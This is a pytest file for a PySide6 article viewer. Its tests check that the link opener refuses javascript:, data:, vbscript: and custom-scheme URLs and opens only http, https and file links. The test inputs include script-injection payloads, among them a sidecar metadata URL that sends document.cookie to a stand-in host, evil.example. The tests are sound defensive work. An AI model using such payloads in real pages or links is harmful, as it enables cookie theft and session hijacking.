"""Only http, https and file links are ever handed to the system; anything else
(javascript:, data:, custom schemes) is refused with a message."""

from __future__ import annotations

import pytest
from PySide6.QtCore import QUrl

from timeline.model import Article
from ui import links
from ui.source_pane import SourcePane


@pytest.fixture
def opened():
    calls: list[str] = []
    links.set_opener(lambda url: calls.append(url.toString()) or True)
    yield calls
    links.set_opener(None)


@pytest.mark.parametrize("url", [
    "javascript:alert(document.cookie)",
    "JavaScript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "ms-settings:privacy",
    "not a link at all",
    "http://",
])
def test_unsafe_links_are_refused_and_never_opened(opened, url):
    message = links.open_link(url)
    assert message is not None and message.startswith("Not opened")
    assert opened == []


@pytest.mark.parametrize(
    "url", ["https://example.org/a?b=1", "http://example.org", "file:///tmp/a.txt"])
def test_safe_links_are_opened(opened, url):
    assert links.open_link(url) is None
    assert opened == [QUrl(url).toString()]


def test_javascript_url_in_article_metadata_is_never_opened(qtbot, opened):
    pane = SourcePane()
    qtbot.addWidget(pane)
    article = Article(text="Text.", published=None, title="<b>Bold</b> title",
                      url="javascript:alert('x')", id=1)
    pane.show_article(article)
    with qtbot.waitSignal(pane.linkRefused) as refused:
        pane.open_button.click()
    assert opened == []
    assert "javascript" in refused.args[0]
    assert pane.message_label.isVisibleTo(pane)
    assert pane.title_label.text() == "<b>Bold</b> title"  # shown as text, not rendered


def test_local_file_is_the_link_when_there_is_no_url(qtbot, opened, tmp_path):
    source = tmp_path / "article.txt"
    source.write_text("Text.")
    pane = SourcePane()
    qtbot.addWidget(pane)
    pane.show_article(Article(text="Text.", published=None, source_path=str(source), id=2))
    pane.open_button.click()
    assert opened == [QUrl.fromLocalFile(str(source)).toString()]


@pytest.mark.qt_log_ignore("does not support propagateSizeHints")
def test_javascript_url_from_an_imported_sidecar_is_never_opened(qtbot, opened, repo, settings,
                                                                tmp_path):
    """End to end: the URL comes from a file's metadata, through import and the store, to
    the window's source dock, whose Open original refuses it."""
    import json

    from ui.main_window import MainWindow

    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "summit.txt").write_text("The summit opened on Monday.", encoding="utf-8")
    (folder / "summit.meta.json").write_text(json.dumps({
        "title": "Summit", "published": "2023-09-12",
        "url": "javascript:fetch('https://evil.example/'+document.cookie)"}), encoding="utf-8")
    window = MainWindow(repo, settings=settings)
    qtbot.addWidget(window)
    with qtbot.waitSignal(window.loaded, timeout=60_000):
        window.transfer.import_paths([folder])
    qtbot.waitUntil(lambda: window.model.rowCount() > 0, timeout=30_000)
    window.select_event(window.model.ids()[0])
    qtbot.waitUntil(lambda: window.source_pane.link_label.full_text() != "", timeout=10_000)
    assert window.source_pane.link_label.full_text().startswith("javascript:")
    with qtbot.waitSignal(window.source_pane.linkRefused) as refused:
        window.source_pane.open_button.click()
    assert opened == []
    assert "javascript" in refused.args[0]
    window.close()
